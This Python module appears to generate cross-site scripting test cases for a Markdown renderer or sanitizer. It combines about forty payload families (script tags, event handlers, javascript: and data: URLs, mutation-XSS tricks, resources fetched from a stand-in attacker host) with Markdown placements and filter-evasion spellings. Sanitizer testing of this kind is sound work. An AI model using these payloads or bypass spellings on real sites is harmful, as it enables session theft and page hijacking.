"""Attacks by the hundred: what somebody may want, how it may be spelled, and where in a page it may stand."""

from __future__ import annotations

from collections.abc import Callable, Iterator

from payloads import EVIL, RUN

MATH_IN_STYLE = '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={run}&gt;">'

# In a line, so that each can stand in a table.
FAMILIES: dict[str, str] = {
    "script": "<script>{run}</script>",
    "script from elsewhere": '<script src="https://{evil}/x.js"></script>',
    "picture that fails": '<img src="nothing.png" onerror="{run}">',
    "picture from elsewhere": '<img src="https://{evil}/x.png" alt="x">',
    "picture in Markdown": "![x](https://{evil}/x.png)",
    "pictures to choose from": '<img src="x.png" alt="x" srcset="https://{evil}/x.png 2x">',
    "frame": '<iframe src="https://{evil}/" srcdoc="&lt;script&gt;parent.{run}&lt;/script&gt;"></iframe>',
    "object": '<object data="https://{evil}/x.svg"></object>',
    "embed": '<embed src="https://{evil}/x.swf">',
    "drawing": '<svg onload="{run}"><use href="https://{evil}/x.svg#a"/></svg>',
    "drawing that moves": '<svg><a><animate attributeName="href" values="javascript:{run}"/><text>x</text></a></svg>',
    "formula": '<math href="javascript:{run}"><mi>x</mi></math>',
    "style": "<style>*{{background:url(https://{evil}/x)}}</style>",
    "style of an element": '<b style="background:url(https://{evil}/x);position:fixed;inset:0">x</b>',
    "sheet": '<link rel="stylesheet" href="https://{evil}/x.css">',
    "other page": '<meta http-equiv="refresh" content="0;url=https://{evil}/">',
    "other base": '<base href="https://{evil}/">',
    "form": '<form action="https://{evil}/"><input name="a" autofocus onfocus="{run}"><button>x</button></form>',
    "button": '<button formaction="javascript:{run}" onclick="{run}">x</button>',
    "film": '<video autoplay onloadstart="{run}" poster="https://{evil}/x.png"><source src="https://{evil}/x.mp4"></video>',
    "sound": '<audio autoplay src="https://{evil}/x.mp3" onerror="{run}"></audio>',
    "details": '<details open ontoggle="{run}"><summary>x</summary>y</details>',
    "marquee": '<marquee onstart="{run}">x</marquee>',
    "element of nobody": '<x-y onfocus="{run}" autofocus tabindex="1">x</x-y>',
    "attributes in a list": '**x**{{: onmouseover="{run}" .md-overlay #__search }}',
    "script as an address": "[x](javascript:{run})",
    "data as an address": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "address of a tag": '<a href="javascript:{run}" ping="https://{evil}/" target="_top">x</a>',
    "address elsewhere": "[x](https://{evil}/)",
    "address that leads on": "[x](https://en.wikipedia.org/l?u=https://{evil}/)",
    "address in angles": "<https://{evil}/>",
    "ids of the theme": '<p id="__config">x</p><a name="__search">y</a>',
    "part of the theme": '<div class="md-overlay md-banner">x</div>',
    "output of an example": '<div class="example"><div class="highlight output"><pre>x</pre></div></div>',
    "end of the article": "</article></main></body><h1>x</h1>",
    "what changes its mind": '<noscript><p title="</noscript><img src=x onerror={run}>"></noscript>',
    "two languages": MATH_IN_STYLE,
    "token": "&#xF0000;&#xF0010;&#xF0011;&#xF0001;<b title='&#xF0000;'>x</b>",
    "command of TeX": "$\\href{{javascript:{run}}}{{x}}$ $\\includegraphics{{https://{evil}/x.png}}$",
    "code": "`<img src=x onerror={run}>` and ``x ` <script>{run}</script>``",
}


def _as_it_is(text: str) -> str:
    return text


def _upper(text: str) -> str:
    return text.replace("script", "ScRiPt").replace("<img", "<IMG").replace("on", "On")


def _entities(text: str) -> str:
    return text.replace("javascript:", "&#106;ava&#x09;script&colon;").replace("https:", "https&colon;")


def _slashes(text: str) -> str:
    return text.replace(" on", "/on").replace(" src", "/src").replace("https://", "\\\\\\\\")


def _controls(text: str) -> str:
    return text.replace("javascript:", "java\x01script:").replace("<", "<\x00", 1).replace("onerror", "on\x0berror")


def _nested(text: str) -> str:
    return text.replace("<script>", "<scr<script>ipt>").replace("<img", "<<img")


def _bare(text: str) -> str:
    return text.replace('"', "")


SPELLINGS: tuple[Callable[[str], str], ...] = (_as_it_is, _upper, _entities, _slashes, _controls, _nested, _bare)
PLACES: dict[str, str] = {
    "paragraph": "{}",
    "sentence": "Un mot {} et un autre.",
    "item": "- un\n- deux {}",
    "deep item": "- un\n\n    - deux\n\n        {}",
    "cell": "| a | b |\n| --- | --- |\n| {} | 2 |",
    "quotation": "> Un mot.\n>\n> {}",
    "box": "!!! note\n\n    {}",
    "title of a box": '!!! note "{}"\n\n    Mot.',
    "heading": "## Titre {}",
    "element": '<div dir="ltr">\n\n{}\n\n</div>',
    "raw element": "<p>\n{}\n</p>",
    "emphasis": "**{}** et *{}*",
    "tab": '=== "Un"\n\n    {}',
    "note": "Mot[^{number}].\n\n[^{number}]: {}",
    "definition": "Mot\n:   {}",
}


def attacks() -> Iterator[tuple[str, str]]:
    """Yield the name and the Markdown of each attack: each family in each place, in a spelling that goes round."""
    for row, (family, text) in enumerate(FAMILIES.items()):
        for column, (place, around) in enumerate(PLACES.items()):
            spelled = SPELLINGS[(row + column) % len(SPELLINGS)](text.format(run=RUN, evil=EVIL))
            yield f"{family}, {place}", around.replace("{number}", str(row)).replace("{}", spelled)


def pages(each: int) -> list[tuple[str, list[str]]]:
    """Return pages that hold so many attacks each, and the words that stand behind each attack."""
    found = [attack for _, attack in attacks()]
    result = []
    for start in range(0, len(found), each):
        ends = [f"Fin {start + number}." for number in range(len(found[start : start + each]))]
        blocks = [f"{attack}\n\n{end}" for attack, end in zip(found[start : start + each], ends, strict=True)]
        result.append(("\n\n".join(blocks), ends))
    return result
